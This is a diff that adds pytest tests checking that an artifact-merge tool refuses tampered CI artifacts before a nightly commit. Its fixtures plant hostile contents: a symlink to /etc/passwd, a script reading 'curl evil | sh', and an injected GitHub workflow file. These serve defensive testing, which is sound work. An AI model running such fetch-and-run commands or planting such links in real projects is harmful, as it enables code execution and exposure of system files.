@@ -3,7 +3,9 @@
 from __future__ import annotations
 
 import json
+import os
 import shutil
+from pathlib import Path
 
 import pytest
 
@@ -88,3 +90,51 @@ def test_the_action_run_step_refuses_wrong_inputs_before_anything_runs(tmp_path,
     assert says in capsys.readouterr().err
     outputs = (tmp_path / "github_output").read_text() if (tmp_path / "github_output").exists() else ""
     assert "started=true" not in outputs and not list(tmp_path.rglob("result.json"))
+
+
+RUN_REL = Path("deletion") / "reference" / "1.0" / "embedded"
+
+
+@pytest.mark.parametrize("plant, says", [
+    (lambda a: (a / RUN_REL / "notes.txt").symlink_to("/etc/passwd"), "notes.txt: a symbolic link"),
+    (lambda a: os.link(a / RUN_REL / "result.json", a / RUN_REL / "copy.json"), "a hard link"),
+    (lambda a: os.mkfifo(a / RUN_REL / "pipe"), "pipe: not a regular file"),
+    (lambda a: (a / RUN_REL / "run.sh").write_text("curl evil | sh"), "run.sh: not an artifact its result names"),
+    (lambda a: ((a / ".github" / "workflows").mkdir(parents=True),
+                (a / ".github" / "workflows" / "evil.yml").write_text("on: push")), ".github: not a protocol's folder"),
+    (lambda a: (a / "deletion" / "evil.yml").write_text("x"), "outside the <protocol>/<system>/<version>/<setup>/"),
+    (lambda a: ((a / RUN_REL / "deeper").mkdir(), (a / RUN_REL / "deeper" / "x").write_text("x")),
+     "deeper than <protocol>/<system>/<version>/<setup>/"),
+])
+def test_merge_refuses_anything_but_a_results_artifacts_before_copying(tmp_path, capsys, plant, says):
+    art = _artifact(tmp_path, "a")
+    plant(art)
+    assert main(["merge", str(tmp_path / "merged"), str(art)]) == 2
+    captured = capsys.readouterr()
+    assert says in captured.err and "nothing merged" in captured.err
+    assert not (tmp_path / "merged").exists()
+
+
+def test_merge_refuses_a_forged_relabel(tmp_path, capsys):
+    art = _artifact(tmp_path, "a")
+    moved = art / "deletion" / "reference" / "1.0" / "embedded+forget_path=secure_wipe"
+    (art / RUN_REL).rename(moved)
+    assert main(["merge", str(tmp_path / "merged"), str(art)]) == 2
+    assert "names options" in capsys.readouterr().err and not (tmp_path / "merged").exists()
+
+
+def test_the_nightly_merge_and_commit_path_commits_only_verified_artifacts(tmp_path):
+    """What nightly.yml does between downloading the artifacts and `git add results`: merge, then `cp -a merged/.
+    results/`. Whatever a job's artifact held, the tree that is committed holds result folders of artifacts only."""
+    good = _artifact(tmp_path, "good")
+    (good / RUN_REL / "attestation.sigstore.json").write_text("{}\n")  # an artifact a result may carry
+    assert main(["merge", str(tmp_path / "merged"), str(good)]) == 2  # an invalid attestation is refused too
+    (good / RUN_REL / "attestation.sigstore.json").unlink()
+    assert main(["merge", str(tmp_path / "merged"), str(good)]) == 0
+    results = tmp_path / "results"
+    shutil.copytree(tmp_path / "merged", results, symlinks=True)  # cp -a merged/. results/
+    files = sorted(p.relative_to(results).as_posix() for p in results.rglob("*") if p.is_file() or p.is_symlink())
+    assert all(not (results / f).is_symlink() for f in files)
+    result = json.loads((results / RUN_REL / "result.json").read_text())
+    assert {Path(f).name for f in files} <= {"result.json", result["transcript"]["file"],
+                                             (result.get("model_transcript") or {}).get("file")}
